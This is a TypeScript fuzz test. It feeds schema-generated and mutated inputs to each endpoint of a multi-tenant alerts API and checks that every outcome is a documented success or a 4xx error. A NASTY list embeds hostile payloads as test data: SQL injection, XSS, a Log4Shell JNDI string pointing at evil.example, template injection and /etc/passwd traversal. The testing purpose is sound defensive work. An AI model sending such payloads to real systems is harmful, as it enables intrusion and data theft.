// Fuzzing every endpoint from the OpenAPI document (lib/api/openapi), on a
// real Postgres under RLS. For each operation, fast-check generates inputs
// from the document's own JSON Schemas (parameters and request body) — valid
// ones, and the same with a mutation: a field dropped, an unknown field added
// (tenant_id among them), a value replaced by anything, SQL and script
// payloads in strings, control characters, oversized strings. Each input goes
// through the endpoint as the gateway will call it (its zod schemas, then the
// handler in a withTenant transaction of the fixture user's stand-in API key,
// rolled back: the gateway takes keys only, and the database lets only keys
// write alerts, assets, raw events, collectors and checkpoints).
// Property: the outcome is a success with the documented status and a body
// that matches the documented response schema, or an ApiProblem with a 4xx
// status. Never anything else (which the gateway would answer with a 500).
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import fc from "fast-check";
import { ApiProblem, type Endpoint } from "@/lib/api/endpoint";
import { apiEndpoints } from "@/lib/api/endpoints";
import { buildOpenApiDocument, type JsonSchema, type OpenApiOperation } from "@/lib/api/openapi";
import { parseKey } from "@/lib/api/keys/format";
import { withTenant, type TenantTx } from "@/lib/db/with-tenant";
import { contextFor, keyFor, runEndpoint } from "./helpers/api-endpoint-call";
import { insertFixtures, type Fixtures, type TenantSlug, type UserName } from "./helpers/fixtures";
import { createTestDatabase, type TestDatabase } from "./helpers/test-database";

let db: TestDatabase;
let fx: Fixtures;
before(async () => {
  db = await createTestDatabase();
  fx = await insertFixtures(db.url);
});
after(() => db.drop());

const NASTY = [
  "'; drop table public.alerts; --",
  "' or '1'='1",
  "<script>alert(document.cookie)</script>",
  "\"><img src=x onerror=alert(1)>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "😀".repeat(3),
  " ",
  "\n",
  "%00",
  "../../etc/passwd",
  "NaN",
  "-1",
  "9".repeat(40),
];

const nastyString = fc.constantFrom(...NASTY);

/** An arbitrary for (mostly) valid values of a JSON Schema as z.toJSONSchema writes them. */
function arbitraryOf(schema: JsonSchema, depth = 0): fc.Arbitrary<unknown> {
  const s = schema as Record<string, any>;
  if (s.anyOf) return fc.oneof(...(s.anyOf as JsonSchema[]).map((x) => arbitraryOf(x, depth)));
  if (s.enum) return fc.constantFrom(...(s.enum as unknown[]));
  if (s.const !== undefined) return fc.constant(s.const);
  switch (s.type) {
    case "null":
      return fc.constant(null);
    case "boolean":
      return fc.boolean();
    case "integer":
      return fc.integer({ min: s.minimum ?? -1000, max: s.maximum ?? 1000 });
    case "number":
      return fc.double({ min: s.minimum ?? -1e6, max: s.maximum ?? 1e6, noNaN: true });
    case "string":
      return stringOf(s);
    case "array": {
      const min = s.minItems ?? 0;
      // Batches up to 1,000 are allowed; a handful keeps the runs quick (the limit has its own tests).
      const max = Math.min(s.maxItems ?? 5, min + 4);
      return fc.array(s.items ? arbitraryOf(s.items, depth + 1) : fc.anything(), { minLength: min, maxLength: max });
    }
    case "object": {
      if (!s.properties) return depth > 3 ? fc.constant({}) : fc.dictionary(fc.string({ maxLength: 10 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 });
      const required = new Set<string>(s.required ?? []);
      const entries = Object.entries(s.properties as Record<string, JsonSchema>);
      return fc
        .tuple(...entries.map(([k, v]) => (required.has(k) ? arbitraryOf(v, depth + 1) : fc.option(arbitraryOf(v, depth + 1), { freq: 2, nil: undefined }))))
        .map((values) => Object.fromEntries(entries.flatMap(([k], i) => (values[i] === undefined ? [] : [[k, values[i]]]))));
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function stringOf(s: Record<string, any>): fc.Arbitrary<string> {
  const bounded = (a: fc.Arbitrary<string>) => a.filter((x) => x.length >= (s.minLength ?? 0) && x.length <= (s.maxLength ?? Infinity));
  switch (s.format) {
    case "uuid":
      return fc.oneof({ weight: 1, arbitrary: fc.uuid({ version: 4 }) }, { weight: 3, arbitrary: fc.constantFrom(...fixtureIds()) });
    case "date-time":
      return fc.date({ min: new Date("2000-01-01T00:00:00Z"), max: new Date("2030-12-31T00:00:00Z"), noInvalidDate: true }).map((d) => d.toISOString());
    case "ipv4":
      return fc.ipV4();
    case "ipv6":
      return fc.ipV6();
    case "email":
      return fc.emailAddress();
  }
  if (s.pattern) {
    return bounded(fc.oneof(fc.stringMatching(new RegExp(s.pattern)).map((x) => x.slice(0, s.maxLength ?? 200)), fc.constantFrom("edr", "crowdstrike", "a")));
  }
  const max = Math.min(s.maxLength ?? 200, 200);
  return bounded(fc.oneof({ weight: 4, arbitrary: fc.string({ minLength: Math.max(1, s.minLength ?? 0), maxLength: max }) }, { weight: 1, arbitrary: nastyString }));
}

let ids: string[] = [];
const fixtureIds = () => (ids.length ? ids : ["00000000-0000-4000-8000-000000000000"]);

/** A mutation of a valid value: what a careless or hostile client sends. */
function mutated(value: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.tuple(value, fc.nat(), fc.oneof(fc.anything(), nastyString, fc.string({ minLength: 5000, maxLength: 6000 }))).map(([v, pick, junk]) => mutate(v, pick, junk));
}

function mutate(v: unknown, pick: number, junk: unknown): unknown {
  if (v === null || typeof v !== "object") return pick % 3 === 0 ? junk : typeof v === "string" ? `${v}${NASTY[pick % NASTY.length]}` : junk;
  if (Array.isArray(v)) {
    if (v.length === 0 || pick % 5 === 0) return [...v, junk];
    const i = pick % v.length;
    return v.map((x, j) => (j === i ? mutate(x, Math.floor(pick / 7), junk) : x));
  }
  const keys = Object.keys(v);
  const o = { ...(v as Record<string, unknown>) };
  switch (pick % 4) {
    case 0:
      o[["tenant_id", "tenant", "role", "__proto__x", "id"][pick % 5]] = junk;
      return o;
    case 1:
      if (keys.length) delete o[keys[pick % keys.length]];
      return o;
    default:
      if (keys.length) o[keys[pick % keys.length]] = mutate(o[keys[pick % keys.length]], Math.floor(pick / 4), junk);
      else o.extra = junk;
      return o;
  }
}

interface Call {
  user: UserName;
  slug: TenantSlug;
  params: unknown;
  query: unknown;
  body: unknown;
}

function inputArbitrary(op: OpenApiOperation, broken: boolean): fc.Arbitrary<Call> {
  const params = (op.parameters ?? []).filter((p: any) => p.in === "path" && p.name !== "slug");
  const query = (op.parameters ?? []).filter((p: any) => p.in === "query");
  // Optional parameters are each present one time in four, so a call with none of them is common.
  const objectOf = (ps: any[]) =>
    fc
      .tuple(...ps.map((p) => (p.required ? arbitraryOf(p.schema) : fc.option(arbitraryOf(p.schema), { freq: 3, nil: undefined }))))
      .map((values) => Object.fromEntries(ps.flatMap((p, i) => (values[i] === undefined ? [] : [[p.name, values[i]]]))));
  const body = op.requestBody ? arbitraryOf(op.requestBody.content["application/json"].schema) : fc.constant(undefined);
  const maybeBroken = <T>(a: fc.Arbitrary<T>) => (broken ? fc.oneof(a, mutated(a)) : a);
  return fc.record({
    user: fc.constantFrom<UserName>("acmeAdmin", "acmeAnalyst", "acmeAnalyst", "acmeViewer"),
    slug: fc.constantFrom<TenantSlug>("acme", "acme", "acme", "globex"),
    params: maybeBroken(objectOf(params)),
    query: maybeBroken(objectOf(query)),
    body: op.requestBody ? maybeBroken(body) : fc.constant(undefined),
  });
}

const ROLLBACK = Symbol("rollback");

/** The endpoint run as `user`'s stand-in key addressing `slug` (helpers/api-endpoint-call keyFor), rolled back. */
async function asStandInRolledBack<T>(user: UserName, slug: TenantSlug, fn: (tx: TenantTx, key: Awaited<ReturnType<typeof keyFor>>) => Promise<T>): Promise<T> {
  const key = await keyFor(fx, user, slug);
  let result: T | undefined;
  try {
    await withTenant({ userId: key.id, apiKey: parseKey(key.key)!, activeTenantId: fx.tenants[slug] }, async (tx) => {
      result = await fn(tx, key);
      throw ROLLBACK;
    });
  } catch (error) {
    if (error !== ROLLBACK) throw error;
  }
  return result as T;
}

async function outcome(e: Endpoint<any, any, any, any>, c: Call): Promise<string> {
  try {
    const r = await asStandInRolledBack(c.user, c.slug, (tx, key) => runEndpoint(e, contextFor(tx, fx, c.slug, key), c));
    assert.equal(r.status, e.success.status);
    const check = e.success.schema.safeParse(r.body);
    assert.ok(check.success, `response does not match its documented schema: ${JSON.stringify(check.error?.issues?.slice(0, 3))}`);
    return String(r.status);
  } catch (error) {
    if (error instanceof ApiProblem && error.status >= 400 && error.status < 500) return String(error.status);
    throw error;
  }
}

/**
 * Known-good calls tried first: a random triage change rarely meets the
 * workflow (an alert of the caller's tenant, a step allowed from its status,
 * a reason exactly when closing), and the property must see that side too.
 */
function examplesFor(e: Endpoint<any, any, any, any>): [Call][] {
  if (e.method !== "PATCH") return [];
  const id = fx.alerts.acme[0];
  return [
    [{ user: "acmeAnalyst", slug: "acme", params: { id }, query: {}, body: { status: "acknowledged" } }],
    [{ user: "acmeAdmin", slug: "acme", params: { id }, query: {}, body: { status: "false_positive", reason: "known scanner" } }],
    [{ user: "acmeAnalyst", slug: "acme", params: { id }, query: {}, body: { assignee_id: fx.users.acmeAnalyst } }],
  ];
}

const doc = buildOpenApiDocument();

test("the document lists every endpoint on both paths", () => {
  for (const e of apiEndpoints) {
    assert.ok(doc.paths[e.path]?.[e.method.toLowerCase()], `${e.method} ${e.path}`);
    assert.ok(doc.paths[`/tenants/{slug}${e.path}`]?.[e.method.toLowerCase()], `${e.method} /tenants/{slug}${e.path}`);
  }
});

for (const e of apiEndpoints) {
  test(`fuzz ${e.method} ${e.path}: every outcome is the documented success or a 4xx problem`, async () => {
    ids = [...fx.alerts.acme, ...fx.alerts.globex, ...fx.alerts["other-co"], ...fx.assets.acme, ...fx.assets.globex, fx.users.acmeAnalyst, fx.users.msspAdmin, fx.users.globexAdmin];
    const op = doc.paths[e.path][e.method.toLowerCase()];
    const seen = new Map<string, number>();
    for (const broken of [false, true]) {
      await fc.assert(
        fc.asyncProperty(inputArbitrary(op, broken), async (c) => {
          const status = await outcome(e, c);
          seen.set(status, (seen.get(status) ?? 0) + 1);
        }),
        { numRuns: Number(process.env.FUZZ_RUNS ?? 60), examples: examplesFor(e) },
      );
    }
    console.log(`# ${e.method} ${e.path}: ${[...seen].map(([s, n]) => `${s}×${n}`).join(", ")}`);
    // The generator must reach both sides, or the property says little.
    assert.ok([...seen.keys()].some((s) => s.startsWith("2")), `no success among ${JSON.stringify([...seen])}`);
    assert.ok([...seen.keys()].some((s) => s.startsWith("4")), `no refusal among ${JSON.stringify([...seen])}`);
  });
}
